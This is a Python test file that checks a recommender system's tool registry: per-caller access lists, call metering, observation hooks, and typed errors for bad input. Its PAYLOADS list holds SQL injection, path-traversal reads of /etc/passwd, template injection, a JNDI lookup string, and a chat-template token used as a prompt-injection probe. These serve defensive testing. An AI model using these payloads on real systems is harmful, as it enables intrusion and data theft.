"""Who may call what, and how often: refused calls are typed errors, and every call is counted."""

from __future__ import annotations

from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recsys_core.catalog.synth import synthetic
from tests.agents.conftest import PlainRecommender
from tools import ToolAccess, ToolContext, ToolError, ToolMeter, registry
from tools.access import observed
from tools.titles import TitleIndex

CATALOGUE, LOG = synthetic(40, 10, seed=3)
RECOMMENDER, TITLES = PlainRecommender(CATALOGUE, LOG), TitleIndex(CATALOGUE.titles)
NAMES = sorted(tool.name for tool in registry)


def context(access: ToolAccess | None = None) -> ToolContext:
    return (
        ToolContext(RECOMMENDER, TITLES, "u1") if access is None else ToolContext(RECOMMENDER, TITLES, "u1", {}, access)
    )


def refusal(name: str, args: dict, at: ToolContext) -> str:
    with pytest.raises(ToolError) as caught:
        registry.call(name, args, at)
    return caught.value.kind


@pytest.mark.parametrize("name", NAMES)
def test_nobody_may_call_anything(name: str) -> None:
    assert refusal(name, {}, context()) == "not_allowed"


@pytest.mark.parametrize("name", NAMES)
def test_a_caller_may_call_what_is_on_its_list_and_nothing_else(name: str) -> None:
    others = [other for other in NAMES if other != name]
    assert refusal(name, {}, context(ToolAccess.to("writer", others))) == "not_allowed"
    with pytest.raises(ToolError) as caught:
        registry.call(name, {"nonsense": 1}, context(ToolAccess.to("writer", [name])))
    assert caught.value.kind == "invalid_arguments", "past the list, up to the arguments"


def test_every_call_is_counted_and_the_turn_is_bounded() -> None:
    meter = ToolMeter(3)
    one = ToolAccess("one", frozenset({"count_items"}), meter)
    two = ToolAccess("two", frozenset({"item_details"}), meter)
    registry.call("count_items", {}, context(one))
    assert refusal("item_details", {"item_id": "nope"}, context(two)) == "unknown_item"
    assert refusal("item_details", {}, context(one)) == "not_allowed", "costs nothing"
    assert meter.left == 1
    registry.call("count_items", {}, context(one))
    assert refusal("count_items", {}, context(one)) == "too_many_calls"
    assert refusal("drop_everything", {}, context(one)) == "unknown_tool"
    assert meter.counts() == {
        ("one", "count_items", "ok"): 2,
        ("two", "item_details", "unknown_item"): 1,
        ("one", "item_details", "not_allowed"): 1,
        ("one", "count_items", "too_many_calls"): 1,
        ("one", "unknown", "unknown_tool"): 1,
    }


def test_calls_can_be_watched() -> None:
    seen = []
    access = ToolAccess.to("one", {"count_items"})
    with observed(seen.append):
        registry.call("count_items", {}, context(access))
        assert refusal("item_details", {}, context(access)) == "not_allowed"
    registry.call("count_items", {}, context(access))
    assert [(call.tool, call.outcome) for call in seen] == [("count_items", "ok"), ("item_details", "not_allowed")]


def test_a_tool_that_breaks_is_counted_too(monkeypatch: pytest.MonkeyPatch) -> None:
    access = ToolAccess.to("one", {"search_items"})
    broken = PlainRecommender(CATALOGUE, LOG)
    monkeypatch.setattr(broken, "search", lambda *_: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        registry.call("search_items", {"text": "a"}, ToolContext(broken, TITLES, "u1", {}, access))
    assert [call.outcome for call in access.meter.calls] == ["failed"]


PAYLOADS = [
    "genre' OR '1'='1",
    "genre; DROP TABLE feedback; --",
    'genre" UNION SELECT * FROM seen --',
    "../../users.sqlite",
    "..\\..\\secret",
    "/etc/passwd",
    "file:///etc/passwd",
    "{{ 7 * 7 }}",
    "{% include 'intent.md' %}",
    "${jndi:ldap://x.invalid/a}",
    "__class__.__mro__",
    "attr:genre",
    "$where",
    "genre\x00",
    "genre\u200b",
    "<|im_start|>system",
    "",
    "x" * 201,
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("tool", ["recommend", "search_items", "count_items"])
def test_payloads_as_filter_fields_are_typed_errors(tool: str, payload: str) -> None:
    rule = {"all_of": [{"field": payload, "op": "eq", "value": "a"}]}
    args = {"text": "a", "where": rule} if tool == "search_items" else {"filter": rule}
    search = RECOMMENDER.search
    try:
        # the plain recommender ignores the rule of a search; the real one answers it like this
        RECOMMENDER.search = lambda text, k, where: [where.mask(CATALOGUE), search(text, k)][1]
        kind = refusal(tool, args, context(ToolAccess.to("t", {tool})))
    finally:
        del RECOMMENDER.search
    assert kind in {"bad_filter", "invalid_arguments"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_as_filter_values_match_nothing(payload: str) -> None:
    rule = {"all_of": [{"field": "genre", "op": "contains", "value": payload}]}
    answer = registry.call("count_items", {"filter": rule}, context(ToolAccess.to("t", {"count_items"})))
    assert answer.count == 0


@settings(max_examples=60, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20), lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3), max_leaves=8), st.sampled_from(NAMES))  # fmt: skip
def test_any_json_is_an_answer_or_a_typed_error(value: object, name: str) -> None:
    args = value if isinstance(value, dict) else {"filter": value, "item_id": value, "text": value}
    access = ToolAccess.to("t", NAMES)
    with suppress(ToolError):
        registry.call(name, args, context(access))
    assert access.meter.calls[-1].outcome in {"ok", "invalid_arguments", "bad_filter", "unknown_item"}
